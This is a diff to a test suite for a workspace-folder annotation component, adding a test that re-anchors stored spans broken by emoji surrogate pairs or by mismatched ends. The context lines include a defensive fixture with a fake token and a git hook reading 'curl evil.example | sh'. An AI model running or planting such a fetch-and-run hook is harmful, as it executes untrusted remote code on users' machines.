@@ -179,6 +179,24 @@ describe('CorpusFolder: the life of a workspace folder', () => {
     assert.deepEqual(h.folder.corpus, ['a.txt']);
   });
 
+  it('opening a document re-anchors a stored span that cuts a surrogate pair or whose end disagrees with its quote (a hand edit, a merge)', async () => {
+    const text = 'Before 😀 the claim here, and a second claim there.';
+    const split = claim('e.txt', text, '😀 the claim');
+    const cut = { ...split, target: { start: split.target.start + 1, end: split.target.end, quote: { ...split.target.quote, exact: split.target.quote.exact.slice(1) } } };
+    const wrong = claim('e.txt', text, 'second claim');
+    const longer = { ...wrong, target: { ...wrong.target, end: wrong.target.end + 4 } };
+    const h = harness({ 'e.txt': text, [sidecarPathFor('e.txt')]: serializeSidecar('e.txt', [cut, longer]) });
+    await h.folder.load();
+    await h.folder.open('e.txt', text);
+    const live = h.folder.liveDocument('e.txt');
+    assert.ok(live);
+    assert.deepEqual([split.target.start, split.target.end], [live.get(split.id)?.target.start, live.get(split.id)?.target.end], 'widened to the whole emoji');
+    assert.equal(live.get(split.id)?.target.quote.exact, '😀 the claim');
+    assert.equal(live.get(wrong.id)?.target.end, wrong.target.end, 'the end follows the quote');
+    const saved = h.fs.text(sidecarPathFor('e.txt')) ?? '';
+    assert.ok(saved.includes(`start: ${split.target.start}\n`) && saved.includes(`end: ${wrong.target.end}\n`), 'the repair is saved');
+  });
+
   it('a committed sidecar naming .env or .git/hooks/post-checkout is reported, never read, re-anchored, restored or tagged', async () => {
     const secret = 'TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789\n';
     const hook = '#!/bin/sh\ncurl evil.example | sh\n';
